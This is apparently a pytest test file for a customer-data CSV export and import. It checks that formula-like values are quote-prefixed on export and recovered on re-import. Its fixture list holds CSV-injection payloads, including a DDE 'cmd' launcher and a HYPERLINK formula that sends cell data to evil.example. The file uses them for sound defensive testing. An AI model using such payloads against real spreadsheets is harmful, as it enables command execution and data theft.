"""CSV injection end to end: hostile names go through ingest, out in an export, back in.

Every exported free-text cell that starts with = + - @, tab or CR is prefixed with a quote;
phones leave as `+CC NSN` (`+32 470123400`: a plus, digits and one space, which cannot reference
a cell or call a function) without one. The dry-run re-import of the downloaded file gives back
the original values and changes nothing.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import asyncpg
import httpx
import pytest

from schemas.tags import BUILTIN_TAGS
from services.common.settings import Settings
from services.profile.csvimport import CsvImport, ImportRow
from tests.support.api import MakeToken, Seed, bearer
from tests.support.builders import event
from tests.support.exports import export_via_api

pytestmark = pytest.mark.asyncio(loop_scope="session")
T = "brasserie-leopold"
BASE = f"/v1/tenants/{T}"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PHONE_CELL = re.compile(r"\+[0-9]{1,3} [0-9]{4,}")  # the only cell let through unguarded
HOSTILE = [  # (first_name, last_name, email)
    ("=cmd|' /C calc'!A0", "+1+1", "=x@example.be"),
    ("-2+3", "@SUM(A1:A9)", "+plus@example.be"),
    ("@here", '=HYPERLINK("http://evil.example/?"&A1,"click")', "-minus@example.be"),
    ("+32 470", "-", "at@example.be"),
    ("=1;=2", 'O\'Neil, "Jr"\n=2', "semi@example.be"),
    ("Normal", "Name", "normal@example.be"),
]


def _cells(raw: bytes, delimiter: str) -> list[dict[str, str]]:
    text = raw.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


async def _seed_hostile(seed: Seed, names: list[tuple[str, str, str]]) -> None:
    await seed(
        *(
            event(
                email=email,
                phone=f"0470 12 34 {i:02d}",
                at=i,
                contact={"first_name": first, "last_name": last, "language": "nl"},
            )
            for i, (first, last, email) in enumerate(names)
        )
    )


@pytest.mark.parametrize(("delimiter", "bom"), [(",", False), (";", True)])
async def test_formula_cells_are_neutralised_and_reimport_gives_back_the_originals(
    client: httpx.AsyncClient,
    seed: Seed,
    make_token: MakeToken,
    settings: Settings,
    db_url: str,
    owner: asyncpg.Connection,
    delimiter: str,
    bom: bool,
) -> None:
    await _seed_hostile(seed, HOSTILE)
    headers = bearer(await make_token(T, "read", "export", "import"))
    stored = {
        r["email"]: (r["first_name"], r["last_name"])
        for r in await owner.fetch("SELECT email, first_name, last_name FROM customers")
    }
    assert len(stored) == len(HOSTILE)
    raw = await export_via_api(client, headers, settings, db_url, delimiter=delimiter, bom=bom)
    rows = _cells(raw, delimiter)
    assert len(rows) == len(HOSTILE)
    neutralised = 0
    for row in rows:
        for column, value in row.items():
            if column == "phone" and PHONE_CELL.fullmatch(value):
                continue
            assert not value.startswith(DANGEROUS), (column, value)  # every other cell
            neutralised += value.startswith("'") and value[1:2] in DANGEROUS
    assert neutralised == 12  # the names and emails of HOSTILE that start like formulas
    assert sorted(r["phone"] for r in rows) == [f"+32 4701234{i:02d}" for i in range(len(HOSTILE))]
    by_email = {r["email"].lstrip("'"): r for r in rows}
    for email, (first, last) in stored.items():
        assert by_email[email]["first_name"] in (first, "'" + first)
        assert by_email[email]["last_name"] in (last, "'" + last)

    # The importer strips the guard again: the same values come back.
    with CsvImport.open(
        io.BytesIO(raw), known_tags=set(BUILTIN_TAGS), now=datetime.now(UTC)
    ) as opened:
        parsed = list(opened.rows())
    assert all(isinstance(r, ImportRow) for r in parsed), parsed
    assert {
        r.email: (r.first_name, r.last_name)
        for r in parsed  # type: ignore[union-attr]
    } == stored
    # And through the API: a dry run of the file changes nothing.
    r = await client.post(
        f"{BASE}/imports",
        params={"dry_run": "true"},
        content=raw,
        headers={**headers, "content-type": "text/csv"},
    )
    assert r.status_code == 200, r.text
    report = r.json()
    assert (report["rows"], report["valid"], report["invalid"]) == (len(HOSTILE),) * 2 + (0,)
    assert (report["would_create"], report["would_update"]) == (0, 0), report
    assert report["unchanged"] == len(HOSTILE) and report["errors"] == []


async def test_values_starting_with_a_quote_survive_the_round_trip(
    client: httpx.AsyncClient,
    seed: Seed,
    make_token: MakeToken,
    settings: Settings,
    db_url: str,
) -> None:
    await _seed_hostile(seed, [("'=quoted", "'+x", "quote@example.be")])
    headers = bearer(await make_token(T, "read", "export", "import"))
    raw = await export_via_api(client, headers, settings, db_url)
    r = await client.post(
        f"{BASE}/imports",
        params={"dry_run": "true"},
        content=raw,
        headers={**headers, "content-type": "text/csv"},
    )
    report = r.json()
    assert (report["would_update"], report["unchanged"]) == (0, 1), report
